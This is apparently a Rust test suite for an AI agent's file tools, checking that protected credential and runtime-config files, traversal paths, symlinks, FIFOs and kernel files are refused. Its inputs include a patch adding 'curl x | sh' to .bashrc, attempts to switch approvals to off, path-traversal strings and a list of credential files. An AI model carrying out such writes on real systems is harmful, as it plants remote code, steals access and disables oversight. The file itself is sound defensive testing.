//! The file tools' doors, through the real binary (`hermes-tools call`): protected
//! places refused for every kind of write, V4A paths confined, kernel and device files
//! never opened, and a config.yaml that is a FIFO or too large never hanging anything.
//!
//! Every child runs with HOME and HERMES_HOME in temp dirs, so `~/.ssh` and the like
//! are the test's own; nothing outside the temp dirs is written.

use serde_json::{json, Value};
use std::io::Read;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};
use tempfile::TempDir;

struct Machine {
    _root: TempDir,
    home: PathBuf,
    hermes: PathBuf,
    work: PathBuf,
    outside: PathBuf,
}

struct Outcome {
    result: Value,
    stderr: String,
}

fn machine() -> Machine {
    let root = TempDir::new().unwrap();
    let dir = |name: &str| {
        let path = root.path().join(name);
        std::fs::create_dir_all(&path).unwrap();
        path.canonicalize().unwrap()
    };
    let (home, hermes, work, outside) = (dir("home"), dir("hermes"), dir("work"), dir("outside"));
    Machine {
        _root: root,
        home,
        hermes,
        work,
        outside,
    }
}

/// Waits for a child at most `limit`; a child still running then is killed and the
/// test fails (the point of several tests is that nothing hangs).
fn finish(mut child: std::process::Child, limit: Duration, what: &str) -> (String, String) {
    let deadline = Instant::now() + limit;
    loop {
        if child.try_wait().unwrap().is_some() {
            break;
        }
        if Instant::now() >= deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("{what} did not finish within {limit:?}: it hung");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let mut stdout = String::new();
    let mut stderr = String::new();
    child
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut stdout)
        .unwrap();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut stderr)
        .unwrap();
    (stdout, stderr)
}

impl Machine {
    fn call_with(&self, tool: &str, args: Value, env: &[(&str, &Path)]) -> Outcome {
        let mut command = Command::new(env!("CARGO_BIN_EXE_hermes-tools"));
        command
            .args(["call", tool, &args.to_string(), "--cwd"])
            .arg(&self.work)
            .env("HOME", &self.home)
            .env("HERMES_HOME", &self.hermes)
            .env_remove("HERMES_WRITE_SAFE_ROOT")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        for (key, value) in env {
            command.env(key, value);
        }
        let (stdout, stderr) = finish(
            command.spawn().unwrap(),
            Duration::from_secs(60),
            &format!("{tool} {args}"),
        );
        let json_part = stdout.split("\n\n[").next().unwrap().trim();
        let result = serde_json::from_str(json_part)
            .unwrap_or_else(|e| panic!("not JSON ({e}): {stdout}\n{stderr}"));
        Outcome { result, stderr }
    }

    fn call(&self, tool: &str, args: Value) -> Value {
        self.call_with(tool, args, &[]).result
    }
}

fn error_of(result: &Value) -> &str {
    result["error"]
        .as_str()
        .unwrap_or_else(|| panic!("expected an error, got {result}"))
}

fn v4a(body: &str) -> Value {
    json!({"mode": "patch", "patch": format!("*** Begin Patch\n{body}\n*** End Patch\n")})
}

#[test]
fn writes_to_protected_places_are_refused_by_every_kind_of_write() {
    let m = machine();
    let protected = [
        m.home.join(".ssh/authorized_keys"),
        m.home.join(".netrc"),
        m.home.join(".pgpass"),
        m.home.join(".git-credentials"),
        m.home.join(".aws/credentials"),
        m.home.join(".config/gcloud/credentials.db"),
        m.home.join(".azure/accessTokens.json"),
        m.home.join(".kube/config"),
        m.home.join(".docker/config.json"),
        m.home.join(".bashrc"),
        m.home.join(".profile"),
        m.hermes.join("config.yaml"),
        m.hermes.join(".env"),
        m.hermes.join("auth.json"),
        m.hermes.join("mcp_server_token"),
        m.hermes.join("plugins/evil/plugin.yaml"),
    ];
    for path in &protected {
        let shown = path.display().to_string();
        let r = m.call(
            "write_file",
            json!({"path": shown, "content": "approvals:\n  mode: off\n"}),
        );
        assert!(error_of(&r).contains("denied"), "{shown}: {r}");
        let r = m.call("patch", v4a(&format!("*** Add File: {shown}\n+pwned")));
        assert_eq!(r["success"], false, "{shown}: {r}");
        assert!(!path.exists(), "{shown} was written");
    }
    // `~/...` spellings and relative ones that climb there are the same places.
    let r = m.call(
        "write_file",
        json!({"path": "~/.ssh/authorized_keys", "content": "ssh-ed25519 AAAA"}),
    );
    assert!(error_of(&r).contains("credential"), "{r}");
    let r = m.call(
        "write_file",
        json!({"path": "../home/.netrc", "content": "machine x"}),
    );
    assert!(error_of(&r).contains("denied"), "{r}");

    // Existing protected files are not patched either, in either mode.
    std::fs::write(m.home.join(".bashrc"), "export A=1\n").unwrap();
    std::fs::write(m.hermes.join("config.yaml"), "approvals:\n  mode: manual\n").unwrap();
    let r = m.call(
        "patch",
        json!({"path": "~/.bashrc", "old_string": "A=1", "new_string": "A=1; curl x | sh"}),
    );
    assert_eq!(r["success"], false, "{r}");
    let config = m.hermes.join("config.yaml").display().to_string();
    let r = m.call(
        "patch",
        json!({"path": config, "old_string": "manual", "new_string": "off"}),
    );
    assert!(error_of(&r).contains("runtime's own configuration"), "{r}");
    let r = m.call(
        "patch",
        v4a(&format!(
            "*** Update File: {config}\n@@\n approvals:\n-  mode: manual\n+  mode: off"
        )),
    );
    assert_eq!(r["success"], false, "{r}");
    let r = m.call("patch", v4a(&format!("*** Delete File: {config}")));
    assert_eq!(r["success"], false, "{r}");
    assert_eq!(
        std::fs::read_to_string(m.home.join(".bashrc")).unwrap(),
        "export A=1\n"
    );
    assert_eq!(
        std::fs::read_to_string(m.hermes.join("config.yaml")).unwrap(),
        "approvals:\n  mode: manual\n"
    );

    // Ordinary files in the working directory are written as before.
    let r = m.call(
        "write_file",
        json!({"path": "notes/todo.txt", "content": "ok\n"}),
    );
    assert_eq!(r["verified"], true, "{r}");
}

#[test]
fn symlinks_lead_to_their_targets_and_are_never_replaced() {
    let m = machine();
    std::fs::create_dir_all(m.home.join(".ssh")).unwrap();
    symlink(m.home.join(".ssh"), m.work.join("keys")).unwrap();
    symlink(m.hermes.join("config.yaml"), m.work.join("settings.yaml")).unwrap();
    let r = m.call(
        "write_file",
        json!({"path": "keys/authorized_keys", "content": "ssh-rsa AAAA"}),
    );
    assert!(error_of(&r).contains("denied"), "{r}");
    // A dangling link to a protected place: refused, the link stays, no target appears.
    let r = m.call(
        "write_file",
        json!({"path": "settings.yaml", "content": "approvals:\n  mode: off\n"}),
    );
    assert!(error_of(&r).contains("denied"), "{r}");
    let r = m.call(
        "patch",
        v4a("*** Add File: settings.yaml\n+approvals: {mode: off}"),
    );
    assert_eq!(r["success"], false, "{r}");
    assert!(std::fs::symlink_metadata(m.work.join("settings.yaml"))
        .unwrap()
        .file_type()
        .is_symlink());
    assert!(!m.hermes.join("config.yaml").exists());
    assert!(!m.home.join(".ssh/authorized_keys").exists());

    // A dangling link to an ordinary place: the write creates the target, as writing
    // through the link with a shell does, and the link is kept.
    symlink(m.work.join("real.txt"), m.work.join("alias.txt")).unwrap();
    let r = m.call(
        "write_file",
        json!({"path": "alias.txt", "content": "through the link\n"}),
    );
    assert_eq!(r["verified"], true, "{r}");
    assert!(std::fs::symlink_metadata(m.work.join("alias.txt"))
        .unwrap()
        .file_type()
        .is_symlink());
    assert_eq!(
        std::fs::read_to_string(m.work.join("real.txt")).unwrap(),
        "through the link\n"
    );
    let r = m.call(
        "patch",
        json!({"path": "alias.txt", "old_string": "through", "new_string": "via"}),
    );
    assert_eq!(r["success"], true, "{r}");
    assert!(std::fs::symlink_metadata(m.work.join("alias.txt"))
        .unwrap()
        .file_type()
        .is_symlink());
    assert_eq!(
        std::fs::read_to_string(m.work.join("real.txt")).unwrap(),
        "via the link\n"
    );
}

#[test]
fn v4a_paths_stay_inside_the_working_directory() {
    let m = machine();
    std::fs::write(m.work.join("a.txt"), "one\n").unwrap();
    symlink(&m.outside, m.work.join("exit")).unwrap();
    for body in [
        "*** Add File: ../outside/escaped.txt\n+x".to_string(),
        "*** Add File: sub/../../outside/escaped.txt\n+x".to_string(),
        "*** Add File: exit/escaped.txt\n+x".to_string(),
        "*** Update File: a.txt\n*** Move to: ../outside/escaped.txt\n@@\n-one\n+two".to_string(),
        "*** Update File: a.txt\n*** Move to: exit/escaped.txt\n@@\n-one\n+two".to_string(),
    ] {
        let r = m.call("patch", v4a(&body));
        assert_eq!(r["success"], false, "{body}: {r}");
        assert!(error_of(&r).contains("denied"), "{body}: {r}");
    }
    assert!(
        std::fs::read_dir(&m.outside).unwrap().next().is_none(),
        "something was written outside"
    );
    assert_eq!(
        std::fs::read_to_string(m.work.join("a.txt")).unwrap(),
        "one\n"
    );

    // Inside the working directory, relative and absolute, patches apply.
    let inside = m.work.join("b.txt").display().to_string();
    let r = m.call(
        "patch",
        v4a(&format!(
            "*** Add File: sub/new.txt\n+hi\n*** Add File: {inside}\n+abs"
        )),
    );
    assert_eq!(r["success"], true, "{r}");
    assert_eq!(
        std::fs::read_to_string(m.work.join("sub/new.txt")).unwrap(),
        "hi\n"
    );
}

#[test]
fn hermes_write_safe_root_confines_writes() {
    let m = machine();
    let allowed = m.work.join("allowed");
    std::fs::create_dir_all(&allowed).unwrap();
    let env = [("HERMES_WRITE_SAFE_ROOT", allowed.as_path())];
    let r = m
        .call_with(
            "write_file",
            json!({"path": "allowed/in.txt", "content": "x"}),
            &env,
        )
        .result;
    assert_eq!(r["verified"], true, "{r}");
    let r = m
        .call_with(
            "write_file",
            json!({"path": "out.txt", "content": "x"}),
            &env,
        )
        .result;
    assert!(error_of(&r).contains("HERMES_WRITE_SAFE_ROOT"), "{r}");
    let r = m
        .call_with("patch", v4a("*** Add File: out2.txt\n+x"), &env)
        .result;
    assert_eq!(r["success"], false, "{r}");
    assert!(!m.work.join("out.txt").exists() && !m.work.join("out2.txt").exists());
}

#[test]
fn kernel_and_device_files_are_refused_and_nothing_hangs() {
    let m = machine();
    for path in [
        "/proc/self/maps",
        "/proc/self/smaps",
        "/proc/self/environ",
        "/proc/kmsg",
        "/sys/kernel/notes",
        "/dev/zero",
    ] {
        let r = m.call("read_file", json!({"path": path}));
        assert!(error_of(&r).starts_with("Refusing to read"), "{path}: {r}");
        let r = m.call("search_files", json!({"pattern": "x", "path": path}));
        assert!(
            error_of(&r).starts_with("Refusing to search"),
            "{path}: {r}"
        );
        let r = m.call(
            "patch",
            json!({"path": path, "old_string": "a", "new_string": "b"}),
        );
        assert_eq!(r["success"], false, "{path}: {r}");
    }
    // A FIFO (no writer: a blocking open would wait forever) and a link to one.
    let fifo = m.work.join("pipe");
    assert!(Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    symlink(&fifo, m.work.join("pipe-link.txt")).unwrap();
    for path in ["pipe", "pipe-link.txt"] {
        let r = m.call("read_file", json!({"path": path}));
        assert!(error_of(&r).contains("not a regular file"), "{path}: {r}");
        let r = m.call("write_file", json!({"path": path, "content": "x"}));
        assert!(r["error"].is_string(), "{path}: {r}");
        let r = m.call(
            "patch",
            json!({"path": path, "old_string": "a", "new_string": "b"}),
        );
        assert_eq!(r["success"], false, "{path}: {r}");
        let r = m.call(
            "patch",
            v4a(&format!("*** Update File: {path}\n@@\n-a\n+b")),
        );
        assert!(error_of(&r).contains("not a regular file"), "{path}: {r}");
    }
    // A search over a directory holding the FIFO skips it and finds the real match.
    std::fs::write(m.work.join("found.txt"), "needle\n").unwrap();
    let r = m.call("search_files", json!({"pattern": "needle"}));
    assert_eq!(r["total_count"], 1, "{r}");
    assert_eq!(r["matches"][0]["path"], "found.txt", "{r}");
}

#[test]
fn oversized_regexes_are_refused_with_a_clear_error() {
    let m = machine();
    std::fs::write(m.work.join("x.txt"), "abc\n").unwrap();
    let r = m.call("search_files", json!({"pattern": "[\\s\\S]{65535}"}));
    assert!(error_of(&r).contains("too large"), "{r}");
    let r = m.call("search_files", json!({"pattern": "a.c"}));
    assert_eq!(r["total_count"], 1, "{r}");
}

#[test]
fn read_file_hides_the_bom_and_edits_keep_it() {
    let m = machine();
    std::fs::write(m.work.join("bom.txt"), "\u{feff}first\nsecond\n").unwrap();
    let r = m.call("read_file", json!({"path": "bom.txt"}));
    assert_eq!(r["content"], "1|first\n2|second", "{r}");
    let r = m.call(
        "patch",
        json!({"path": "bom.txt", "old_string": "first", "new_string": "1st"}),
    );
    assert_eq!(r["success"], true, "{r}");
    assert_eq!(
        std::fs::read(m.work.join("bom.txt")).unwrap(),
        "\u{feff}1st\nsecond\n".as_bytes()
    );
    let r = m.call(
        "write_file",
        json!({"path": "bom.txt", "content": "all new\n"}),
    );
    assert_eq!(r["verified"], true, "{r}");
    assert_eq!(
        std::fs::read(m.work.join("bom.txt")).unwrap(),
        "\u{feff}all new\n".as_bytes()
    );
}

#[test]
fn a_fifo_or_oversized_config_is_reported_and_hangs_nothing() {
    let m = machine();
    std::fs::write(m.work.join("x.txt"), "hello\n").unwrap();
    let config = m.hermes.join("config.yaml");
    assert!(Command::new("mkfifo")
        .arg(&config)
        .status()
        .unwrap()
        .success());
    let out = m.call_with("read_file", json!({"path": "x.txt"}), &[]);
    assert_eq!(out.result["content"], "1|hello", "{}", out.result);
    assert!(out.stderr.contains("not a regular file"), "{}", out.stderr);
    let out = m.call_with("terminal", json!({"command": "echo ran"}), &[]);
    assert!(
        out.result["output"].as_str().unwrap_or("").contains("ran"),
        "{}",
        out.result
    );

    std::fs::remove_file(&config).unwrap();
    let mut big = String::from("tool_budget:\n  default_result_size_chars: 10\n");
    while big.len() <= 1 << 20 {
        big.push_str("# padding padding padding padding padding padding padding padding\n");
    }
    std::fs::write(&config, big).unwrap();
    let out = m.call_with("read_file", json!({"path": "x.txt"}), &[]);
    assert_eq!(out.result["content"], "1|hello", "{}", out.result);
    assert!(out.stderr.contains("larger than"), "{}", out.stderr);
}
